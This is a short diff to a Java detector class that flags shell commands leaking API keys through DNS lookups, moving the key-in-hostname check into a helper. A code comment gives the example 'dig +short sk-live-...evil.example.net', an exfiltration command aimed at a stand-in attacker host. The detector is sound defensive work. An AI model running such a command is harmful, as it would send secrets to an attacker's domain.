@@ -210,14 +210,11 @@ final class LeakPredicates {
       }
       if (ENCODERS.contains(program)) {
         encodes = true;
+      } else if (KeysInLookedUpNames.in(step) != null) {
+        // dig +short sk-live-51Habc123.evil.example.net: a key written into the name itself
+        return KeysInLookedUpNames.in(step) + " (a key of a known form in the name looked up)";
       } else if (lookup == null && RESOLVERS.contains(program)) {
         for (Word word : step.args()) {
-          if (word.literal()
-              && word.text().length() < 256
-              && OutRules.KEY.matcher(word.text().replace('-', '_')).find()) {
-            // dig +short sk-live-51Habc123.evil.example.net: a key written into the name itself
-            return program + " " + word.text() + " (a key of a known form in the name looked up)";
-          }
           if (!word.literal() && COMPUTED_LABEL.matcher(word.text()).matches()) {
             lookup = program + " " + word.text();
             break;
